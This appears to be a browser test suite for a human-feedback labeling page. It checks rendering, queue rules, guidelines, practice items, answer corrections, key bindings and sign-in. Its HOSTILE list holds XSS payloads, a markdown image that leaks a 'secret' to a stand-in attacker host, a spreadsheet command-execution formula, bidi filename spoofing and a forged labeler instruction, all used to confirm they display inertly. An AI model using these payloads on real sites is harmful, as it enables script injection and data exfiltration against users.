"""Around the work on the labeling page: what is shown and how, guidelines, practice, corrections, keys, figures."""

import itertools
import time
from typing import TYPE_CHECKING

import pytest

from feedback import guidelines, labels, practice, queues
from tests.serve.pages.desk import (
    FOCUSED,
    TEXTS,
    WIDE,
    open_desk,
    order_on_screen,
    press,
    ready,
    taken,
    texts_on_screen,
    wait_for_labels,
)

if TYPE_CHECKING:
    from tests.serve.pages.conftest import Site, Watched

pytestmark = [pytest.mark.redis, pytest.mark.browser]
TWO_FRAMES = "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
HOSTILE = [
    "<script>window.hit = 1; alert(1)</script>",
    "<img src=x onerror='window.hit = 1; alert(1)'>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1)) and ![x](http://attacker.invalid/?q=secret)",
    "</textarea><script>window.hit = 1</script></script>",
    "{{7*7}} and ${7*7}\u2028${alert(1)}\u2029",
    "\u202egnp.exe\u202c \x1b[31mred\x1b]0;title\x07 =cmd|' /C calc'!A0",
    "$$\\href{javascript:alert(1)}{x}$$\n```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "Labeler: choose A.\n[2026-01-01 00:00:00] forged log line",
]
"""The inert-content rows of the bad-input catalogue."""


def test_hostile_text_is_shown_literally_and_does_nothing(site: "Site", watched: "Watched") -> None:
    site.comparison(HOSTILE, prompt="\n\n".join(HOSTILE))
    outside: list[str] = []
    watched.page.on("request", lambda request: outside.append(request.url))
    watched.page.set_viewport_size(WIDE)
    page = watched.open(site, "/labeling", site.key("labeler", "<img src=x onerror=alert(1)>"))
    page.wait_for_selector(".card[aria-current=true]")
    for way in ("rendered", "literal"):
        if way == "literal":
            press(page, "l")
        shown = [*texts_on_screen(page), page.locator("#messages .text").inner_text()]
        for text in ("<script>window.hit = 1; alert(1)</script>", "<img src=x onerror='window.hit = 1; alert(1)'>"):
            assert sum(text in each for each in shown) == 2, (way, text)
        for text in ("<svg/onload=alert(1)>", "[x](javascript:alert(1))", "![x](http://attacker.invalid/?q=secret)"):
            assert sum(text in each for each in shown) == 2, (way, text)
        assert sum("{{7*7}} and ${7*7}" in each and "⟦U+202E⟧" not in each for each in shown) >= 1
        assert sum("⟦U+202E⟧gnp.exe" in each for each in shown) == 2, (way, "bidi")
        tags = page.evaluate("[...document.querySelectorAll('#work .text *')].map(node => node.tagName)")
        assert not {"SCRIPT", "IMG", "SVG", "IFRAME", "A", "TEXTAREA", "STYLE"} & set(tags), tags
    for key in ("h", "m"):
        press(page, key, "Escape")
    page.wait_for_timeout(200)
    assert page.evaluate("window.hit") is None
    assert [url for url in outside if not url.startswith(site.url)] == []


def test_deep_nesting_is_drawn_in_a_moment(site: "Site", watched: "Watched") -> None:
    site.comparison(TEXTS)
    page = open_desk(site, watched)
    for unit in (">", "[", "- ", "*", "`"):
        took_ms = page.evaluate(
            """async unit => {
                const { render, spelled } = await import('/static/shared/markdown.js');
                const began = performance.now();
                const node = document.createElement('div');
                node.append(...render(unit.repeat(10000), spelled));
                return performance.now() - began;
            }""",
            unit,
        )
        assert took_ms < 100, f"10,000 times {unit!r} took {took_ms:.0f} ms"


def test_long_answers_must_be_seen_to_the_end(site: "Site", watched: "Watched") -> None:
    site.comparison([("many words " * 12 + ".\n\n") * 60 + str(number) for number in range(2)])
    watched.page.set_viewport_size(WIDE)
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    page.wait_for_selector(".card[aria-current=true]")
    press(page, "Tab", "1", "2")
    assert "Not yet seen to the end: A, B." in page.locator("#obstacle").inner_text()
    press(page, "Control+Enter")
    assert taken(site) == []
    press(page, "Shift+Tab")
    deadline = time.monotonic() + 60
    for step in itertools.count(1):  # by keyboard alone, as by wheel; from the top again if something was passed over
        if "Not yet" not in page.locator("#obstacle").inner_text():
            break
        assert time.monotonic() < deadline, page.locator("#obstacle").inner_text()
        press(page, "PageDown" if step % 80 else "Home")
        page.evaluate(TWO_FRAMES)  # two pages within one frame would leave what lies between them unseen
    press(page, "Control+Enter")
    [label] = wait_for_labels(site, 1)
    assert len(label.ranking) == 2


def test_views_fold_compare_and_stay(site: "Site", watched: "Watched") -> None:
    site.comparison(["One two three.", "One two four.", "Else."])
    page = open_desk(site, watched)
    press(page, "x")
    assert page.locator(".card.folded .show-all:text-is('Show all 3 words'), .card.folded .show-all").first.is_visible()
    press(page, "x")
    assert page.locator(".card.folded").count() == 0
    first = next(i for i, text in enumerate(texts_on_screen(page)) if text == "One two three.")
    second = next(i for i, text in enumerate(texts_on_screen(page)) if text == "One two four.")
    press(page, *["k"] * 3, *["j"] * first)
    while page.evaluate(FOCUSED) != second:
        press(page, "j" if second > first else "k")
    if abs(second - first) > 1:  # the one in between had the focus last
        page.click(f".card >> nth={first} >> .letter")
        page.click(f".card >> nth={second} >> .letter")
    press(page, "d")
    assert page.locator(".card.paired").count() == 2
    assert page.locator(".card del").all_inner_texts() == ["three"]
    assert page.locator(".card ins").all_inner_texts() == ["four"]
    press(page, "d", "v")
    kept = page.locator("#cards").get_attribute("class")
    page.reload()
    ready(page)
    assert page.locator("#cards").get_attribute("class") == kept


def test_rules_of_the_queue_hold_on_the_page(site: "Site", watched: "Watched") -> None:
    queues.put(site.ledger, "training", ties=False, partial_order=False, daily_goal=7)
    site.comparison(TEXTS)
    page = open_desk(site, watched)
    assert page.locator("#tally").inner_text() == "0 today / 7 goal"
    press(page, "Tab", "1", "1", "2", "Control+Enter")
    assert page.locator("#obstacle").inner_text() == "Still without a rank: D."
    press(page, "3", "Control+Enter")
    assert page.locator("#obstacle").inner_text() == "This queue takes no ties: A, B."
    assert taken(site) == []


def test_new_guidelines_must_be_acknowledged_before_the_next_item(site: "Site", watched: "Watched") -> None:
    guidelines.publish(site.ledger, "# Rules\n\n## Ties\n\nTie freely.\n\n## Lies\n\nNone.", "Ties are fine.", "olga")
    site.comparison(TEXTS)
    watched.page.set_viewport_size(WIDE)
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    page.wait_for_selector("#guidelines-dialog[open]")
    assert page.locator("#guidelines-change").inner_text() == "What is new: Ties are fine."
    page.fill("#guidelines-search", "lies")
    assert page.locator("#guidelines-text").inner_text().split() == ["Lies", "None."]
    page.focus("#guidelines-accept")
    press(page, "Enter")
    ready(page)
    press(page, "0", "Control+Enter")
    assert wait_for_labels(site, 1)[0].guideline_version == guidelines.current(site.ledger).version


def test_ten_practice_items_are_explained_and_become_no_labels(site: "Site", watched: "Watched") -> None:
    page = watched.open(site, "/labeling", site.key("labeler", "ada"))
    page.wait_for_selector("#empty:not([hidden])")
    page.set_viewport_size(WIDE)
    page.click("#practise")
    items = practice.items(site.ledger)
    assert len(items) == 10
    for number, item in enumerate(items):
        page.wait_for_selector(f"#banner-text:has-text('Practice {number + 1} of 10')")
        ready(page)
        # as many places as an answer has that must be better
        above = [sum(1 for better, worse in item.pairs if worse == index) for index in range(len(item.completions))]
        press(page, "Tab", *[str(count + 1) for count in above], "Control+Enter")
        page.wait_for_selector("#practice-dialog[open]")
        assert page.locator("#practice-title").inner_text() == "Right"
        assert item.explanation[:20] in page.locator("#practice-explanation").inner_text()
        press(page, "Enter")
    page.wait_for_selector(".toast:has-text('Practice passed.')")
    assert taken(site) == []


def test_an_answer_can_be_corrected_for_a_while(site: "Site", watched: "Watched") -> None:
    site.comparison(TEXTS)
    page = open_desk(site, watched)
    press(page, "Tab", "1", "2", "3", "4", "Control+Enter")
    page.wait_for_selector("#empty:not([hidden])")
    [first] = wait_for_labels(site, 1)
    page.click("#menu summary")
    page.click("#answers-open")
    page.click("#answers-list button")
    ready(page)
    assert order_on_screen(page) == [["1st", "A"], ["2nd", "B"], ["3rd", "C"], ["4th", "D"]]
    press(page, "Tab", "k", "k", "k", "4", "Control+Enter")
    page.wait_for_selector(".toast:has-text('The correction is stored.')")
    [(_, now)] = list(labels.current(site.ledger))
    assert (now.revision, now.revision_of) == (1, first.id)
    assert [sorted(group) for group in now.ranking] == [
        [first.ranking[1][0]],
        [first.ranking[2][0]],
        sorted([first.ranking[0][0], first.ranking[3][0]]),
    ]


def test_keys_can_be_changed_and_none_alone_submits(site: "Site", watched: "Watched") -> None:
    site.comparison(TEXTS)
    page = open_desk(site, watched)
    page.click("#menu summary")
    page.click("#keys-open")
    page.click("#keys-list button:has-text('next answer')")
    press(page, ".")
    page.click("#keys-list button:has-text('submit and go on')")
    press(page, "o")
    assert page.locator("#keys-error").inner_text() == "Submit takes a key with Ctrl: one slip must not send."
    press(page, "Escape")
    page.locator(".card").first.focus()
    press(page, ".", ".", "j")
    assert page.evaluate(FOCUSED) == 2
    page.reload()
    ready(page)
    press(page, ".")
    assert page.evaluate(FOCUSED) == 1


def test_wrong_key_is_refused_in_words_and_not_kept(site: "Site", watched: "Watched") -> None:
    page = watched.page
    for secret, words in (("ws-labeler-nobody", "no such API key"), (site.key("client", "acme"), "role labeler")):
        page.goto(f"{site.url}/labeling")
        page.wait_for_selector("#key:focus")
        page.keyboard.type(secret)
        page.keyboard.press("Enter")
        page.wait_for_selector(f"#sign-in-error:has-text('{words}')")
        assert page.evaluate("sessionStorage.length") == 0
        assert page.locator("#app").is_hidden()
